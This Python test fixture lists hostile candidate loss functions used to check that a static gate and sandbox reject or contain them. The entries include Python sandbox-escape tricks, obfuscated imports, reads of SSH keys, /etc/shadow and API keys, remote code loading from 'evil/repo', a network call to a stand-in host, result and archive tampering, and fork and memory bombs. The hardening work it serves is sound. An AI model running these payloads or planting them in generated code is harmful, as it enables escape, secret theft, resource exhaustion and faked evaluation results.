"""Hostile candidate losses: every route we know to escape, exfiltrate, exhaust or tamper, as loss code.

Each entry is (name, what it tries, body lines of the paper-form method). Shared by the test suite and
``benchmarks/reliability.py``. A candidate must be rejected by the static gate or contained by the sandbox.
"""

from __future__ import annotations

HEAD = (
    "def {name}(self, policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps):\n"
)
LOGITS = "logits = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)"
CANARY = "/tmp/podisco-hostile-canary"  # a hostile candidate that escaped would create or change this file

HOSTILE: list[tuple[str, str, list[str]]] = [
    # imports, by every route
    ("import_os", "import", ["import os", "os.system('touch " + CANARY + "')", "return -F.logsigmoid(self.beta * 0)"]),
    ("import_subprocess", "import", ["import subprocess", "subprocess.run(['id'])", "return 0"]),
    ("import_socket", "network", ["import socket", "socket.create_connection(('1.1.1.1', 53))", "return 0"]),
    ("import_ctypes", "ctypes", ["import ctypes", "ctypes.CDLL(None).system(b'id')", "return 0"]),
    ("import_signal", "signal handler", ["import signal", "signal.signal(15, lambda *a: None)", "return 0"]),
    ("dunder_import", "import", ["return __import__('os').system('id')"]),
    ("importlib_route", "import", ["return importlib.import_module('os')"]),
    ("builtins_dict", "import", ["return __builtins__['__import__']('os')"]),
    ("getattr_string", "import", ["return getattr(torch, 'sa' + 've')"]),
    ("subclasses", "sandbox escape", ["return ().__class__.__bases__[0].__subclasses__()"]),
    ("func_globals", "sandbox escape", ["return F.logsigmoid.__globals__"]),
    ("module_dict", "sandbox escape", ["return torch.__dict__['load']('/etc/passwd')"]),
    ("vars_torch", "sandbox escape", ["return vars(torch)['save']"]),
    ("type_mro", "sandbox escape", ["return type(policy_chosen_logps).__mro__"]),
    ("globals_call", "sandbox escape", ["return globals()['__builtins__']"]),
    ("eval_hidden", "hidden string", ["return eval(bytes.fromhex('5f5f696d706f72745f5f28276f732729').decode())"]),
    (
        "exec_hidden",
        "hidden string",
        ["exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))", "return 0"],
    ),
    ("compile_code", "hidden string", ["return compile('1', 'x', 'eval')"]),
    ("chr_decode", "hidden string", ["name = ''.join(chr(c) for c in [111, 115])", "return __import__(name)"]),
    # files: secrets, writes outside the work folder, the result file, the archive
    ("open_secret", "file read", ["return open('/root/.ssh/id_rsa').read()"]),
    ("torch_load", "file read", ["return torch.load('/etc/shadow')"]),
    ("torch_from_file", "file read", ["return torch.from_file('/etc/passwd', size=100)"]),
    ("torch_save", "file write", ["torch.save(policy_chosen_logps, '" + CANARY + "')", "return 0"]),
    ("tofile", "file write", ["policy_chosen_logps.numpy().tofile('" + CANARY + "')", "return 0"]),
    (
        "result_tamper",
        "result tampering",
        ["open('result.json', 'w').write('{\"status\": \"evaluated\"}')", "return 0"],
    ),
    ("archive_tamper", "archive tampering", ["open('../../archive.sqlite', 'w').write('')", "return 0"]),
    ("env_secret", "secret read", ["import os", "return os.environ['OPENAI_API_KEY']"]),
    # code loading, compilation, the network through torch
    ("torch_hub", "network", ["return torch.hub.load('evil/repo', 'model')"]),
    ("distributed", "network", ["torch.distributed.init_process_group('gloo', init_method='tcp://1.2.3.4:80')"]),
    ("cpp_extension", "code loading", ["return torch.utils.cpp_extension.load_inline('x', 'int x;')"]),
    ("load_library", "code loading", ["torch.ops.load_library('/tmp/evil.so')", "return 0"]),
    ("jit", "code loading", ["return torch.jit.script(F.logsigmoid)"]),
    ("torch_compile", "code loading", ["return torch.compile(F.logsigmoid)"]),
    ("mp_spawn", "process spawning", ["torch.multiprocessing.spawn(print, nprocs=64)", "return 0"]),
    ("fork_bomb", "fork bomb", ["import os", "for i in range(10 ** 9):", "    os.fork()"]),
    ("while_spin", "infinite loop (while)", ["while True:", "    pass"]),
    # monkey-patching for later candidates, tensor internals
    # found while hardening the gate: frames and storages lead back to modules and files
    ("frame_globals", "sandbox escape", ["g = (i for i in ())", "t = g.gi_frame.f_globals['torch']", "return t.save"]),
    ("storage_from_file", "file read", ["return policy_chosen_logps.storage_type().from_file('/etc/passwd')"]),
    ("shadow_builtin", "sandbox escape", ["x = [eval for eval in ()]", "return eval('1')"]),
    ("patch_torch", "monkey-patching", ["torch.exp = torch.sigmoid", LOGITS, "return torch.exp(-logits)"]),
    ("patch_beta", "monkey-patching", ["self.beta = 1e9", LOGITS, "return -F.logsigmoid(self.beta * logits)"]),
    ("storage", "memory tricks", ["return policy_chosen_logps.untyped_storage()"]),
    ("data_ptr", "memory tricks", ["return policy_chosen_logps.data_ptr()"]),
    ("grad_hook", "autograd tricks", ["policy_chosen_logps.register_hook(lambda g: g * 1e9)", "return 0"]),
    ("set_threads", "resource", ["torch.set_num_threads(512)", "return 0"]),
    ("huge_print", "huge output", ["print('x' * 10**9)", "return 0"]),
    # these pass the gate: only the sandbox stands between them and the machine
    ("python_spin", "infinite loop (Python)", ["for i in range(10 ** 15):", "    pass"]),
    (
        "torch_spin",
        "endless torch ops",
        [LOGITS, "for i in range(10 ** 15):", "    logits = torch.tanh(logits * 1.0001)"],
    ),
    ("int_bomb", "CPU and memory bomb", ["n = 2 ** (10 ** 10)", LOGITS, "return -F.logsigmoid(self.beta * logits)"]),
    ("list_bomb", "memory bomb", ["big = [0] * (10 ** 11)", "return policy_chosen_logps * 0"]),
    ("tensor_bomb", "memory bomb", ["big = torch.ones(10 ** 11)", LOGITS, "return -F.logsigmoid(self.beta * logits)"]),
    ("string_bomb", "memory bomb", ["s = 'x' * (10 ** 12)", "return policy_chosen_logps * 0"]),
    ("slow_sum", "CPU exhaustion", ["total = sum(range(10 ** 13))", LOGITS, "return total * logits"]),
    ("nan_loss", "numerical", [LOGITS, "return torch.log(-logits.abs() - 1)"]),
    ("deep_recursion", "stack exhaustion", ["def f(n):", "    return f(n + 1)", "return f(0)"]),
]


def code(name: str) -> str:
    """The candidate's full source."""
    body = next(lines for n, _, lines in HOSTILE if n == name)
    return HEAD.format(name=name) + "".join(f"    {line}\n" for line in body)
